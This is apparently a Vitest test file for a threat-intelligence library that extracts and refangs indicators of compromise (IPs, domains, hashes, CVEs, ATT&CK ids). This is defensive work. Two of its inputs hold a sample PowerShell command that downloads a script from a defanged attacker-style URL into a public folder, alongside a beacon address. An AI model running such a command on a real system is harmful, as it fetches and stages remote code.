// extractIndicators on real-looking text: every kind, defanged forms, public-suffix awareness, and hostile text in
// linear time. The ATT&CK description is a real one from Mandiant's red-team countermeasures table of contents.
import { describe, expect, it } from 'vitest';
import { extractIndicators, refangText } from '../../src/intel/extract/extract-indicators.js';

describe('extractIndicators', () => {
  it('finds every kind in a command line and refangs hxxp, [.], (dot), [:] and [@]', () => {
    const found = extractIndicators(
      'powershell -nop -c "iwr hxxp://officeman[.]tk/images/admin.php -OutFile C:\\Users\\Public\\a.ps1"; beacon 192.9.135[.]73:1194 and 2001:db8::bad:c0de; ' +
        'mail admin[@]vman23(dot)com; sha256 19D854CAF81BC884C677BD941ABC50B33716E188FA723991820B0FFA3EA7E93E md5 9363fa2625198beb1fcce0ef07f558ff ' +
        'sha1 854c68ab7ad70b6f95f76ec64b8a46c145997629 CVE-2021-44228 via T1059.001 and t1105; cmd.exe invoice.pdf',
    );
    expect(found).toEqual({
      ipv4: ['192.9.135.73'],
      ipv6: ['2001:db8::bad:c0de'],
      domains: ['officeman.tk', 'vman23.com'],
      urls: ['http://officeman.tk/images/admin.php'],
      emails: ['admin@vman23.com'],
      md5: ['9363fa2625198beb1fcce0ef07f558ff'],
      sha1: ['854c68ab7ad70b6f95f76ec64b8a46c145997629'],
      sha256: ['19d854caf81bc884c677bd941abc50b33716e188fa723991820b0ffa3ea7e93e'],
      cves: ['CVE-2021-44228'],
      attackTechniques: ['T1059.001', 'T1105'],
    });
  });

  it('reads ATT&CK ids from a real signature description', () => {
    const text = 'This rule detects credential dumping. MITRE ATT&CK Tactic(s): Credential Access Technique(s): T1003.003, T1003';
    expect(extractIndicators(text).attackTechniques).toEqual(['T1003.003', 'T1003']);
  });

  it('keeps domains only under a real public suffix; file names and an out-of-range IPv4 are not indicators', () => {
    const found = extractIndicators('run update.exe from share.local, then notepad.txt; host 999.1.1.1 and www.example.co.uk, pub-1.r2.dev');
    expect(found.domains).toEqual(['www.example.co.uk', 'pub-1.r2.dev']);
    expect(found.ipv4).toEqual([]);
  });

  it('refangs the usual defanging forms', () => {
    expect(refangText('HXXPS://Evil[.]com[/]x (dot) a[:]8080 {.} fxp://b')).toBe('https://evil.com[/]x . a:8080 . ftp://b');
  });

  it('stays linear on hostile text: a megabyte of dots, labels and digits in well under a second each', () => {
    for (const unit of ['.', 'a.', '1.', 'a:', 'a@', 'http://']) {
      const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
      const start = performance.now();
      extractIndicators(text);
      expect(performance.now() - start, unit).toBeLessThan(1500);
    }
  });
});

describe('the library entry', () => {
  it('exports extractIndicators, as the README shows it', async () => {
    const library = await import('../../src/index.js');
    const found = library.extractIndicators('iwr hxxp://officeman[.]tk/images/admin.php -OutFile a.ps1; beacon 192.9.135[.]73');
    expect([found.urls, found.domains, found.ipv4]).toEqual([['http://officeman.tk/images/admin.php'], ['officeman.tk'], ['192.9.135.73']]);
    expect(library.refangText('evil[.]com')).toBe('evil.com');
  });
});
